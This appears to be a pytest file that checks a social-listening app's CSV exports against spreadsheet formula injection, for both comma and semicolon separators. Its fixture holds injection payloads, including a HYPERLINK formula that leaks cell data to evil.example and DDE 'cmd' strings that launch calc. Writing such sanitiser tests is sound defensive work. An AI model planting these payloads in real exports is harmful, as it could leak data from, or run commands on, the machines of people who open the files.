"""CSV exports hold nothing a spreadsheet would run, whichever separator it splits on."""

from __future__ import annotations

import csv
import io

import pytest

from listener.web import create_app
from listener.web.exports import defuse
from tests.web.corpus import NOW, config, item
from tests.web.helpers import USERS, log_in

HOSTILE = {
    "twitter:901": "Cinesa;=1+1",
    "twitter:902": "Cinesa; =HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
    "twitter:903": "=cmd|' /C calc'!A0 Cinesa",
    "twitter:904": "Cinesa,@SUM(1+1)*cmd|' /C calc'!A0",
    "twitter:905": "\tCinesa;-2+3;+4",
    "twitter:906": "Cinesa;\"=1+1\"",
    "twitter:907": "Cinesa\r=1+1;\r=2",
    "twitter:908": "Cinesa；＝1+1 ＝2",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def analyst(sqlite_backend):
    sqlite_backend.upsert([item(int(i.split(":")[1]), text, 1) for i, text in HOSTILE.items()])
    app = create_app(config(), sqlite_backend, users=USERS, now=lambda: NOW)
    return log_in(app, "marta")


def cells(raw: str, delimiter: str) -> list[str]:
    """What a spreadsheet splitting on ``delimiter`` would put in cells: CSV-aware, and naive."""
    parsed = [cell for row in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter) for cell in row]
    naive = [cell for line in raw.splitlines() for cell in line.split(delimiter)]
    return parsed + naive


def runs(cell: str) -> bool:
    return cell.lstrip(" \"").startswith(FORMULA)


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("read_as", [",", ";"])
def test_no_cell_of_a_posts_export_is_a_formula_for_either_separator(analyst, delimiter, read_as):
    raw = analyst.get("/api/export/posts.csv", params={"delimiter": delimiter}).text
    running = [cell for cell in cells(raw, read_as) if runs(cell)]
    assert running == []


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_the_export_keeps_the_text_with_only_a_quote_added(analyst, delimiter):
    rows = list(csv.DictReader(io.StringIO(analyst.get("/api/export/posts.csv", params={"delimiter": delimiter}).text), delimiter=delimiter))
    texts = {row["id"]: row["text"] for row in rows}
    assert texts["twitter:901"] == "Cinesa;'=1+1"
    assert texts["twitter:903"] == "'=cmd|' /C calc'!A0 Cinesa"
    assert texts["twitter:905"] == "'\tCinesa;'-2+3;'+4"
    assert texts["twitter:1"] == "¿Alguien sabe si Cinesa abre el lunes festivo?"
    assert {row["lead_score"] for row in rows} >= {"50", "90"}


def test_a_semicolon_export_is_separated_by_semicolons(analyst):
    header = analyst.get("/api/export/gaps.csv", params={"delimiter": ";"}).text.splitlines()[0]
    assert header.startswith("entity;role;posts;share_of_voice")
    assert analyst.get("/api/export/share-of-voice.csv", params={"delimiter": ";"}).text.startswith("bucket_start;entity;")


def test_an_unknown_delimiter_is_refused(analyst):
    assert analyst.get("/api/export/posts.csv", params={"delimiter": "|"}).status_code == 422


@pytest.mark.parametrize("text, expected", [
    ("hola", "hola"),
    ("a;b,c", "a;b,c"),
    ("=1", "'=1"),
    ("  +1", "'  +1"),
    ("\"=1\"", "'\"=1\""),
    ("a;=1", "a;'=1"),
    ("a, @x", "a,' @x"),
    ("a;\"-1", "a;'\"-1"),
    ("＠x", "'＠x"),
])
def test_defuse(text, expected):
    assert defuse(text) == expected
